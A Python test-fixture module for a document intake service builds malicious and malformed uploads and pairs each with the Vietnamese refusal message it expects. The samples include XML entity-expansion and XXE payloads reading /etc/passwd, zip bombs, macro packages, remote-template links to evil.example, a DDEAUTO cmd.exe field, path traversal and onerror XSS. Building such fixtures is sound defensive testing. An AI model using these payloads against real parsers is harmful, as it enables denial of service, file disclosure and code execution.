"""Files that strangers send to do harm, or only broken: what each is, and a word of the refusal."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from support_intake import by_hand, letter, package, relations, word, workbook

_PARAGRAPH = "<w:p><w:r><w:t>Họ và tên: Lê Thị Mai</w:t></w:r></w:p>"
_SOUND = word([{"p": "Họ và tên: Lê Thị Mai"}])
_SHEET = workbook({"a": [["Họ và tên", "Đơn vị"], ["Lê Thị Mai", "Xã Phúc Hòa"]]})
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
_ROOT = relations(("rId1", "officeDocument", "word/document.xml"))

# name of the file, its bytes, a word of what is said
Hostile = tuple[str, Callable[[], bytes], str]


def _xml(head: str, body: str = _PARAGRAPH) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return by_hand(
        "",
        **{
            "word/document.xml": f'{head}<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
        },
    )


def _laughs() -> bytes:
    rows = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    return _xml(f'<!DOCTYPE x [<!ENTITY a0 "ha">{rows}]>', "<w:p><w:r><w:t>&a12;</w:t></w:r></w:p>")


def _outside() -> bytes:
    return _xml(
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>",
    )


def _utf16() -> bytes:
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'
    return by_hand("", **{"word/document.xml": text.encode("utf-16")})


def _bomb(size: int, parts: int = 1) -> bytes:
    content = b"<x>" + b"a" * size
    return by_hand(_PARAGRAPH, **{f"word/big{n}.xml": content for n in range(parts)})


def _patched(data: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """Return a zip with something changed in each entry of its directory."""
    made = bytearray(data)
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        change(made, at)
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def _lying() -> bytes:
    """Return a zip whose largest part says it is small."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<x/>")
        made.writestr("_rels/.rels", _ROOT)
        made.writestr("word/document.xml", b"<x>" + b"a" * 60_000_000)

    def smaller(data: bytearray, at: int) -> None:
        if struct.unpack_from("<I", data, at + 24)[0] > 1_000_000:
            struct.pack_into("<I", data, at + 24, 900_000)

    return _patched(out.getvalue(), smaller)


def _encrypted() -> bytes:
    def flag(data: bytearray, at: int) -> None:
        data[at + 8] |= 1

    return _patched(_SOUND, flag)


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", "<x/>")
        made.writestr("word/document.xml", "<x/>")
        made.writestr("word/Document.xml", "<x/>")
    return out.getvalue()


def _related(kind: str, target: str) -> bytes:
    parts = {"word/_rels/document.xml.rels": relations(("rId9", kind, target, "External"))}
    return by_hand(_PARAGRAPH, **parts)


_DEEP = "<w:sdt><w:sdtContent>" * 4000 + _PARAGRAPH + "</w:sdtContent></w:sdt>" * 4000

REFUSED: tuple[Hostile, ...] = (
    ("a.txt", lambda: "Bà Hoa trồng vải. ".encode() * 60_000, "dài quá"),
    ("a.doc", lambda: _OLE, "dạng cũ"),
    ("a.docx", lambda: _OLE, "dạng cũ"),
    ("a.xls", lambda: _OLE, "dạng cũ"),
    ("a.docx", lambda: _OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
    ("a.xlsx", lambda: _OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
    ("a.docx", _encrypted, "mật khẩu"),
    ("a.docm", lambda: _SOUND, "macro"),
    ("a.docx", lambda: by_hand(_PARAGRAPH, **{"word/vbaProject.bin": b"x"}), "macro"),
    (
        "a.docx",
        lambda: by_hand(_PARAGRAPH, **{"[Content_Types].xml": '<a b="x.macroEnabled.y"/>'}),
        "macro",
    ),
    ("a.docx", _laughs, "DTD"),
    ("a.docx", _outside, "DTD"),
    ("a.docx", _utf16, "DTD"),
    ("a.docx", lambda: _xml('<?xml version="1.0" encoding="utf-7"?>'), "hỏng"),
    ("a.docx", lambda: by_hand("", **{"word/document.xml": "<x/>".encode("cp037")}), "hỏng"),
    ("a.docx", lambda: _xml("", _DEEP), "hỏng"),
    ("a.docx", lambda: _bomb(30_000_000), "quá nhiều"),
    ("a.docx", lambda: _bomb(3_000_000), "quá nhiều"),
    ("a.docx", lambda: package({f"p{n}": "" for n in range(3_100)}), "quá nhiều"),
    ("a.docx", _lying, "hỏng"),
    ("a.docx", _twice, "hỏng"),
    ("a.docx", lambda: _related("attachedTemplate", "http://evil.example/t.dotm"), "từ nơi khác"),
    ("a.docx", lambda: _related("image", "http://evil.example/a.png"), "từ nơi khác"),
    ("a.docx", lambda: _related("oleObject", "file:///c:/a.xlsx"), "từ nơi khác"),
    ("a.docx", lambda: _related("frame", "http://evil.example/"), "từ nơi khác"),
    ("a.docx", lambda: _related("subDocument", "other.docx"), "từ nơi khác"),
    ("profile.md", lambda: b"---\nid: k3f9ta\nname: Mai\n---\n\n" + b"a " * 64_000, "dài quá"),
    ("a.docx", lambda: by_hand(""), "không có chữ"),
    ("a.html", lambda: b"<img src=x>", "không có chữ"),
    ("a.html", lambda: ("<p>Hoa</p>" + "<div>" * 5_000 + "x").encode(), "không đọc được trang"),
    ("a.docx", lambda: _SOUND[:-40], "hỏng"),
    ("a.docx", lambda: _SOUND[: len(_SOUND) // 2], "hỏng"),
    ("a.docx", lambda: package({"mimetype": "application/vnd.oasis.opendocument.text"}), "hỏng"),
    ("a.docx", lambda: package({}), "hỏng"),
    ("a.docx", lambda: _SHEET, "hỏng"),
    ("a.xlsx", lambda: _SHEET[:-40], "hỏng"),
    ("a.xlsx", lambda: workbook({"a": []}), "không có dòng nào"),
    ("a.xlsx", lambda: workbook({"a": [["A", "B"], *[["x", "y"]] * 2_005]}), "quá 2000 dòng"),
    ("a.odt", lambda: package({"mimetype": "x"}), "tệp nén"),
    ("a.zip", lambda: _SOUND, "tệp nén"),
    ("a.pdf", lambda: b"%PDF-1.7", "PDF"),
    ("a.docx", lambda: b"%PDF-1.7", "PDF"),
    ("a.rtf", lambda: b"{\\rtf1 x}", "RTF"),
    ("a.doc", lambda: b"{\\rtf1 x}", "RTF"),
    ("a.rar", lambda: b"Rar!\x1a\x07", "RAR"),
    ("a.exe", lambda: b"MZ\x90", ".exe"),
    ("a.txt", lambda: b"", "rỗng"),
    ("a.txt", lambda: b" \n ", "rỗng"),
    ("a.txt", lambda: b"a\0b", "không phải tệp văn bản"),
    ("a.txt", lambda: bytes(range(128, 256)) * 9, "bảng mã"),
    ("a.txt", lambda: b"---\nid: a\nid: b\n---\n", "dòng 3"),
    (
        "a.txt",
        lambda: b"---\nid: k3f9ta\nname: x\npublished: 2024-01-01\n---\n",
        "ngày đăng",
    ),
    ("a.txt", lambda: ("Lời " * 200_000).encode(), "quá"),
    ("a.csv", lambda: b"\xef\xbb\xbf", "không có dòng nào"),
    (
        "a.csv",
        lambda: "H? và tên;??n v?\nLê Th? Mai;Xã Phúc Hòa\n".encode("cp1252"),
        "thành dấu hỏi",
    ),
    ("a.txt", lambda: "Ch? Mai tr?ng v?i s?m ? xã Phúc Hòa".encode(), "thành dấu hỏi"),
    ("a.csv", lambda: ("a;b\n" + '"' + "x" * 200_000).encode(), "hỏng"),
    ("a.eml", lambda: b"Subject: x\n\n", "không có nội dung"),
    ("a.eml", lambda: letter("", {"a.doc": _OLE}), "dạng cũ"),
    ("a.eml", lambda: letter("", {f"a{n}.txt": b"x" for n in range(220)}), "quá 200"),
    ("a.eml", lambda: letter("", {"b.eml": letter("x", {})}), "không nhận"),
)

# Odd, but to be taken: nothing of them runs, is fetched, or is written elsewhere.
TAKEN: tuple[Hostile, ...] = (
    ("../../a.docx", lambda: _SOUND, ""),
    ("a.docx", lambda: by_hand(_PARAGRAPH, **{"../../../etc/x": "x", "/abs": "x"}), ""),
    (
        "a.docx",
        lambda: by_hand(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>'
            "</w:r></w:p>" + _PARAGRAPH
        ),
        "",
    ),
    (
        "a.docx",
        lambda: by_hand(_PARAGRAPH, **{"word/embeddings/x.xlsx": b"x"}),
        "không đọc tệp nhúng",
    ),
    ("a.docx", lambda: _related("hyperlink", "javascript:alert(1)"), ""),
    ("a.docx", lambda: by_hand(_PARAGRAPH + "<w:tbl/><w:tbl><w:tr/></w:tbl>"), ""),
    (
        "a.docx",
        lambda: by_hand(
            '<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="-9"/><w:numId w:val="x"/></w:numPr></w:pPr>'
            "<w:r><w:t>x</w:t></w:r></w:p>" + _PARAGRAPH
        ),
        "",
    ),
    ("a.html", lambda: ("<div>" * 200 + "Họ và tên: Lê Thị Mai").encode(), ""),
    (
        "a.html",
        lambda: (
            b"<p onclick=x>H\xe1\xbb\x8d t\xc3\xaan: Hoa<img src=x onerror=alert(1)><p>"
            + b"<" * 50_000
        ),
        "",
    ),
    ("a.html", lambda: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>Hoa &e;</p>", ""),
    ("a.html", lambda: ("<p>" + "&amp;" * 30_000 + "lt;script&gt;").encode(), ""),
    ("a.txt", lambda: ("Họ và tên: Hoa\n" + "(" * 100_000).encode(), ""),
    ("a.txt", lambda: ("Họ và tên: Hoa\n" + "0912 345 678 " * 300).encode(), "đã lược"),
    (
        "a.txt",
        lambda: ("Họ và tên: Hoa\n" + "Giấy khen số 1/QĐ-UBND ngày 1/1/2020; " * 2_000).encode(),
        "",
    ),
    ("a.txt", lambda: ("Ông " + "A " * 60_000).encode(), ""),
    ("a.txt", lambda: ("Họ và tên: \u202eaoH\u202c\x07\nx").encode(), ""),
    ("a.txt", lambda: ("Họ và tên: " + "Hoa " * 900).encode(), ""),
    ("a.csv", lambda: ("Họ và tên,Đơn vị\n" + "," * 5_000 + "x").encode(), ""),
    (
        "a.eml",
        lambda: (
            b"Subject: =?utf-8?b?////?=\nFrom: <>>\nContent-Type: text/plain; charset=x-no\n\nH\xe1\xbb\x8d t\xc3\xaan: Hoa"
        ),
        "",
    ),
)


def mutated(data: bytes) -> Iterator[bytes]:
    """Give a file with a piece gone, doubled or overwritten, at many places."""
    step = max(1, len(data) // 60)
    for at in range(0, len(data), step):
        yield data[:at] + data[at + 7 :]
        yield data[:at] + data[at : at + 30] + data[at:]
        yield data[:at] + b"\xff\x00<&" + data[at + 4 :]


def repacked(data: bytes) -> Iterator[bytes]:
    """Give a package with one of its parts broken, cut, emptied or gone."""
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    for name, content in parts.items():
        for made in (
            b"",
            b"<x/>",
            content[: len(content) // 2],
            content.replace(b'="', b'="-9'),
            zlib.compress(content),
        ):
            yield package(parts | {name: made})
        yield package({each: kept for each, kept in parts.items() if each != name})


SOUND = (
    ("a.docx", _SOUND),
    ("a.xlsx", _SHEET),
    ("a.eml", letter("Họ tên: Hoa", {"a.docx": _SOUND})),
)
